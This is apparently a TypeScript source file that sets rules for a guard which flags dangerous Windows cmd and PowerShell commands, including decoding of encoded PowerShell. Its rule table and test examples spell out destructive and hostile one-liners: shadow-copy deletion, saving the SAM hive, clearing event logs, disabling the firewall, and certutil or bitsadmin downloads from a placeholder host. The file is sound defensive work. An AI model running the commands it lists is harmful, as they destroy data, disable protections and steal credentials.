import { Buffer } from "node:buffer";
import type { Finding, ShellWord, SimpleCommand } from "../types.js";
import { RULES as POWERSHELL } from "./powershell.js";
import { type Condition, danger, decidingRow, programsOf, subject, type Tool } from "./row.js";
import { unlistedInWindows } from "./windows-uses.js";

const DELETES = "deletes a folder with everything in it";
const DISK = "erases or reformats a disk";
const BOOT = "changes how the machine starts";
const BACKUPS = "deletes backups of the machine";
const RIGHTS = "changes who may use files";
const REGISTRY = "changes how Windows starts or protects itself";
const ELSEWHERE = "runs a script from elsewhere";
const FORCED = "ends processes by force";
const ASKS = /^(?:\/\?|-\?)$/;
const RECURSES = /^(?:\/s|-r(?:e(?:c(?:u(?:r(?:s(?:e)?)?)?)?)?)?)$|^\/[a-z/]*\/?s(?:\/|$)/i;

/** Texts inside texts (`cmd /c powershell -c "…"`) are opened this many times. */
const DEEPEST = 6;

const STARTUP_KEY =
  /\\(?:run(?:once)?|winlogon|image file execution options|services|policies|shell\\open|environment|windows defender|lsa|appinit_dlls|terminal server)(?:\\|$)|^hk(?:lm|ey_local_machine)/i;
/** A shell of Unix takes the backslashes of an unquoted key away. */
const UNQUOTED_STARTUP = /^hk\w+(?:currentversionrun(?:once)?|winlogon|fileexecutionoptions\w*)$/i;

const startupKey: Condition = ({ rest: [key] }) =>
  key !== undefined && (STARTUP_KEY.test(key.text) || UNQUOTED_STARTUP.test(key.text)) ? key : undefined;

/** `cmd /c …`: what follows is a text of its own. */
function cmdText({ args }: SimpleCommand): string {
  const at = args.findIndex(({ text }) => /^\/[ckr]/i.test(text));
  return at < 0 ? "" : `${args[at]?.text.slice(2) ?? ""} ${joined(args.slice(at + 1))}`;
}

const POWERSHELL_TAKES =
  /^[-/](?:executionpolicy|ep|ex\w*|file|f|version|windowstyle|w|configurationname|inputformat|outputformat|psconsolefile|workingdirectory|wd)$/i;

function judgePowershell(command: SimpleCommand, depth: number): Finding | undefined {
  const { args, input } = command;
  for (const [index, { text }] of args.entries()) {
    if (/^[-/]e(?:c|nc?|nco\w*)?$/i.test(text) || /^[-/]encodedcommand$/i.test(text)) {
      const word = args[index + 1];
      const decoded = Buffer.from(word?.text ?? "", "base64").toString("utf16le");
      return judgeText(decoded, depth) ?? danger("windows.encoded", ENCODED, word);
    }
    if (/^[-/](?:c|com\w*)$/i.test(text))
      return judgeText(joined(args.slice(index + 1)), depth) ?? hiddenWindow(args);
  }
  const bare = args.findIndex(
    ({ text }, index) => !/^[-/]/.test(text) && !POWERSHELL_TAKES.test(args[index - 1]?.text ?? ""),
  );
  return (
    judgeText(bare < 0 ? "" : joined(args.slice(bare)), depth) ??
    judgeText(input.kind === "text" ? input.text.text : "", depth)
  );
}
const ENCODED = "runs a command that is encoded so that nobody can read it";

/** Running a named script with the checks off is common; only together with a hidden window it is a disguise. */
function hiddenWindow(args: readonly ShellWord[]): Finding | undefined {
  const hidden = args.find(({ text }) => /^hidden$/i.test(text));
  return hidden !== undefined && args.some(({ text }) => /^bypass$/i.test(text))
    ? danger("windows.hidden", "runs PowerShell hidden and unchecked", hidden)
    : undefined;
}

const joined = (words: readonly ShellWord[]): string => words.map(({ text }) => text).join(" ");

function judgeText(text: string, depth: number): Finding | undefined {
  if (text.trim() === "") return undefined;
  if (depth > DEEPEST) return danger("windows.too-deep", "is nested too deeply to be judged");
  const commands = windowsCommands(text);
  if (commands === undefined) return danger("windows.too-long", "is too long to be judged");
  let found: Finding | undefined;
  const own = new Set(
    [...text.matchAll(/\bfunction\s+([\w-]+)/gi)].map(([, name = ""]) => name.toLowerCase()),
  );
  for (const command of commands) {
    const finding =
      judgeInside(command, depth) ??
      inlineDownload(text) ??
      (own.has(command.program) ? undefined : unlistedInWindows(command));
    if (finding?.level === "hardline") return finding;
    found ??= finding;
  }
  return found;
}

/** Judges a command that stands in the text of a Windows shell. */
export function judgeInside(command: SimpleCommand, depth = -1): Finding | undefined {
  const { program } = command;
  if (program === "cmd") return judgeText(cmdText(command), depth + 1);
  if (program === "powershell" || program === "pwsh") return judgePowershell(command, depth + 1);
  for (const tool of insideTools().get(program) ?? []) {
    const found = decidingRow(tool, command)?.finding;
    if (found !== undefined) return found;
  }
  return undefined;
}

let inside: ReadonlyMap<string, readonly Tool[]> | undefined;

function insideTools(): ReadonlyMap<string, readonly Tool[]> {
  if (inside !== undefined) return inside;
  const tools = new Map<string, Tool[]>();
  for (const tool of [...INSIDE_ONLY.tools, ...RULES.tools, ...POWERSHELL.tools])
    for (const program of programsOf(tool)) tools.set(program, [...(tools.get(program) ?? []), tool]);
  inside = tools;
  return tools;
}

const FETCHED_PROGRAM =
  /-(?:o|outfile|destination)\s{1,9}["']?[^\s;"']{0,200}?([\w-]{1,80}\.(?:exe|ps1|bat|cmd|msi|scr))\b[^\n]{0,400}[;&|\s][.\\/'"]{0,4}\1/i;
/** `IEX (New-Object Net.WebClient).DownloadString('…')` and its spellings. */
function inlineDownload(text: string): Finding | undefined {
  if (
    /\.download(?:string|data)\s*\(/i.test(text) &&
    /\b(?:iex|invoke-expression|scriptblock)\b|\.invoke\(/i.test(text)
  )
    return danger("windows.remote-code", "runs code that is fetched from the network");
  if (FETCHED_PROGRAM.test(text)) return danger("windows.remote-code", "fetches a program and runs it");
  return /\.downloadfile\s*\(/i.test(text) && /start-process|\biex\b|&\s/i.test(text)
    ? danger("windows.remote-code", "fetches a program and runs it")
    : undefined;
}

/** Programs of Windows, wherever they are called from. */
// biome-ignore format: a table; what belongs to a row stands together
export const RULES = subject("windows", [
  { program: "del|erase|rd", dry: "", rows: [
    { word: RECURSES, rule: "windows.delete", reason: DELETES, match: ["del /s /q C:\\x"],
      not_match: ["rd emptydir"] },
    { word: /[*?]/, when: (call) => call.find(/^\/[qf]$/i) !== undefined, rule: "windows.delete",
      reason: "deletes files without asking", match: ["del /f /q *.*"], not_match: ["del file.txt"] },
    { when: ({ command, args }) =>
        command.program === "del"
          ? args.find(({ glob, text }) => glob && /^(?:\.\/)?\*$/.test(text))
          : undefined,
      rule: "delete.everything", reason: "deletes every file of a folder", match: ["del *"],
      not_match: ["del notes.txt"] },
  ] },
  { program: "format|format.com", dry: "", word: /^[a-z]:\\?$|^\\\\[.?]\\/i, rule: "windows.format",
    reason: DISK, match: ["format d: /q"] },
  { program: "diskpart", unless: ASKS, reason: DISK, match: ["diskpart"] },
  { program: "cipher", dry: "", word: /^\/w/i, reason: "wipes free space of a disk", match: ["cipher /w:C:"] },
  { program: "fsutil", dry: "", word: /^(?:setzerodata|deletejournal|dirty)$/i,
    reason: "changes the file system itself", match: ["fsutil setzerodata"] },
  { program: "reg", dry: "", rule: "windows.registry", not_match: ["reg query 'HKCU\\Software'"], rows: [
    { path: "delete|import|restore|load|unload", reason: "changes or deletes settings of Windows",
      match: ["reg delete HKLM\\Software\\X /f"] },
    { path: "add|copy", when: startupKey, reason: REGISTRY,
      match: ["reg add 'HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run' /v x /d y"] },
    { path: "save", when: ({ rest: [key] }) => /\\(?:sam|system|security)$/i.test(key?.text ?? ""),
      reason: "copies stored passwords", match: ["reg save 'HKLM\\SAM' out"] },
  ] },
  { program: "regedit", dry: "", word: /^\/s$/i, reason: "changes settings of Windows without asking",
    match: ["regedit /s"] },
  { program: "sc", dry: "", when: ({ args }) => {
        const verb = args.find(({ text }) => !text.startsWith("\\\\"));
        return /^(?:delete|stop|config|create|failure|sdset|pause)$/i.test(verb?.text ?? "") ? verb : undefined;
      },
    rule: "windows.service", reason: "stops, removes or changes a service", match: ["sc stop spooler"],
    not_match: ["sc query spooler"] },
  { program: "net|net1", dry: "", not_match: ["net view"], rows: [
    { path: "stop|pause *", rule: "windows.service", reason: "stops a service", match: ["net stop spooler"] },
    { path: "user|localgroup|group|accounts",
      when: (call) => call.args.length > 2 || call.find(/^\/(?:add|delete|active)/i) !== undefined,
      rule: "windows.account", reason: "changes accounts of the machine", match: ["net user bob pass /add"],
      not_match: ["net user"] },
    { path: "share", when: (call) => call.find(/=|\/delete/i) !== undefined, rule: "windows.share",
      reason: "changes what the machine shares", match: ["net share 'x=C:\\x'"], not_match: ["net share"] },
  ] },
  { program: "taskkill", dry: "", word: /^\/(?:f|im|fi)$/i, reason: FORCED, match: ["taskkill /F /PID 12"] },
  { program: "tskill", unless: ASKS, reason: FORCED, match: ["tskill"] },
  { program: "bcdedit", dry: "", word: /^\/(?:set|delete|deletevalue|import|create|default|bootsequence)/i,
    reason: BOOT, match: ["bcdedit /set x y"] },
  { program: "bootrec", unless: ASKS, reason: BOOT, match: ["bootrec"] },
  { program: "vssadmin", dry: "", word: /^(?:delete|resize)$/i, reason: BACKUPS,
    match: ["vssadmin delete shadows /all"], not_match: ["vssadmin list shadows"] },
  { program: "wbadmin", dry: "", word: /^(?:delete|disable)$/i, reason: BACKUPS, match: ["wbadmin delete"] },
  { program: "wevtutil", dry: "", word: /^(?:cl|clear-log|sl|set-log)$/i, reason: "clears event logs",
    match: ["wevtutil cl System"], not_match: ["wevtutil qe System /c:5"] },
  { program: "wmic", dry: "", word: /^(?:delete|call|terminate|shadowcopy|uninstall)$/i,
    reason: "changes or ends things on the machine", match: ["wmic process where name='x' delete"] },
  { program: "schtasks", dry: "", word: /^\/(?:create|delete|change|end)$/i,
    reason: "changes tasks that run by themselves", match: ["schtasks /create /tn x /tr y /sc onlogon"],
    not_match: ["schtasks /query"] },
  { program: "icacls", dry: "",
    word: /^(?:\/grant.*|\/reset|\/setowner|\/inheritance.*|(?:everyone|users|\*s-1-1-0):.*)$/i,
    reason: RIGHTS, match: ["icacls C:/x /grant Everyone:F"], not_match: ["icacls C:/x"] },
  { program: "cacls", dry: "", word: /^\/[gep]$/i, reason: RIGHTS, match: ["cacls /g"] },
  { program: "takeown", unless: ASKS, reason: "takes files over", match: ["takeown /f C:/x /r"] },
  { program: "attrib", dry: "", word: /^[-+][rsh]$/i, reason: "hides or unprotects files",
    match: ["attrib -r"] },
  { program: "netsh", dry: "", word: /^(?:delete|add|set|reset|off)$/i,
    reason: "changes the network or firewall", match: ["netsh advfirewall set allprofiles state off"],
    not_match: ["netsh interface show interface"] },
  { program: "certutil", dry: "",
    word: /^[-/](?:urlcache|verifyctl|decode|decodehex|addstore|delstore|importpfx)$/i,
    reason: "fetches, decodes or trusts something unusual",
    match: ["certutil -urlcache -split -f http://x.example/a.exe"],
    not_match: ["certutil -hashfile a.exe SHA256"] },
  { program: "bitsadmin", dry: "", word: /^\/(?:transfer|addfile|create|setnotifycmdline)$/i,
    reason: "fetches files in the background", match: ["bitsadmin /transfer j http://x.example/a.exe a.exe"] },
  { program: "mshta", unless: ASKS, reason: ELSEWHERE, match: ["mshta"] },
  { program: "rundll32", unless: ASKS, reason: "runs code out of a library", match: ["rundll32"] },
  { program: "regsvr32", unless: ASKS, reason: "registers a library to run", match: ["regsvr32"] },
  { program: "cscript|wscript", dry: "", word: /^(?:https?:|\\\\)/i, reason: ELSEWHERE,
    match: ["cscript http:"] },
  { program: "msiexec", dry: "", word: /^[-/](?:x.*|uninstall|i)$/i, reason: "installs or removes software",
    match: ["msiexec -x"] },
  { program: "dism", dry: "", word: /^\/(?:remove-.*|(?:disable|enable)-feature.*|add-.*|set-.*|apply-image)/i,
    reason: "changes the Windows installation", match: ["dism /remove-"] },
  { program: "robocopy", dry: "", word: /^\/(?:mir|purge|move|mov)$/i,
    reason: "deletes what the source does not have", match: ["robocopy a b /MIR"],
    not_match: ["robocopy a b /E"] },
  { program: "iex", dry: "", unless: /^-/,
    when: ({ command, args }) => command.input.kind === "commands" || args.length > 0,
    rule: "windows.expression", reason: "runs text as code", match: ["iex web"] },
]);

/** Names that mean something else outside Windows shells. */
// biome-ignore format: a table; what belongs to a row stands together
const INSIDE_ONLY = subject("windows", [
  { program: "shutdown", dry: "", unless: /^[-/]a$/i, word: /^[-/][srhpg]$/i, level: "hardline",
    reason: "stops the machine", match: ["cmd /c shutdown /s /t 0"], not_match: ["cmd /c shutdown /a"] },
  { program: "rm|ri", dry: "", word: RECURSES, rule: "windows.delete", reason: DELETES,
    match: ["powershell rm -r build"] },
  { program: "rmdir", dry: "", word: /^\/s$/i, reason: DELETES, match: ["cmd /c rmdir /s /q build"] },
  { program: "deltree", unless: ASKS, reason: DELETES, match: ["cmd /c deltree build"] },
  { program: "kill", dry: "", word: /^-(?:f|force|name|n)/i, reason: FORCED,
    match: ["powershell kill -Name node"] },
  { program: "sp", dry: "", word: /currentversion\\run/i, reason: "changes what starts with Windows",
    match: ["powershell 'sp HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run x y'"] },
  { program: "iex", unless: ASKS, reason: "runs text as code", match: ["powershell 'iex $x'"] },
  { program: "saps", dry: "", word: /runas/i, reason: "asks for full rights",
    match: ["powershell saps cmd -Verb RunAs"] },
]);

const MOST_COMMANDS = 200;
const LONGEST = 20_000;

/**
 * Cuts a PowerShell or cmd text into commands, as far as quoting, pipes and separators tell. Undefined when
 * it is longer than anything somebody types.
 */
function windowsCommands(text: string): readonly SimpleCommand[] | undefined {
  if (text.length > LONGEST) return undefined;
  const commands: SimpleCommand[] = [];
  let piped: SimpleCommand | undefined;
  for (const { words, pipe } of segments(text)) {
    const [name, ...args] = words;
    if (name === undefined) continue;
    if (commands.length >= MOST_COMMANDS) return undefined;
    const command = {
      program: programName(name),
      name: word(name),
      args: args.map(word),
      assignments: [],
      redirects: [],
      input:
        piped === undefined ? ({ kind: "none" } as const) : ({ kind: "commands", from: [piped] } as const),
      wrappers: [],
      feeds: [],
      repeated: false,
      rounds: 1,
      span: [0, 0] as const,
    };
    commands.push(command);
    piped = pipe ? command : undefined;
  }
  return commands;
}

function programName(name: string): string {
  return (name.toLowerCase().split(/[\\/]/).at(-1) ?? "").replace(/\.(?:exe|cmd|com)$/, "");
}

const word = (text: string): ShellWord => ({ text, known: true, glob: false });

interface Segment {
  readonly words: readonly string[];
  readonly pipe: boolean;
}

const PIECE = /\s+|'([^']*)'|"((?:`.|""|[^"`])*)"|(\|\||&&|[|;&\n(){}])|`?([\s\S])/gy;

function segments(text: string): readonly Segment[] {
  const found: Segment[] = [];
  let words: string[] = [];
  let current: string | undefined;
  const endWord = (): void => {
    if (current !== undefined) words.push(current);
    current = undefined;
  };
  for (const match of text.matchAll(PIECE)) {
    const [piece, single, double, separator, other] = match;
    if (separator !== undefined) {
      endWord();
      if (words.length > 0) found.push({ words, pipe: separator === "|" });
      words = [];
    } else if (single !== undefined) current = (current ?? "") + single;
    else if (double !== undefined) current = (current ?? "") + double;
    else if (/^\s+$/.test(piece)) {
      endWord();
      if (piece.includes("\n") && words.length > 0) {
        found.push({ words, pipe: false });
        words = [];
      }
    } else current = (current ?? "") + (other ?? "");
  }
  endWord();
  if (words.length > 0) found.push({ words, pipe: false });
  return found;
}
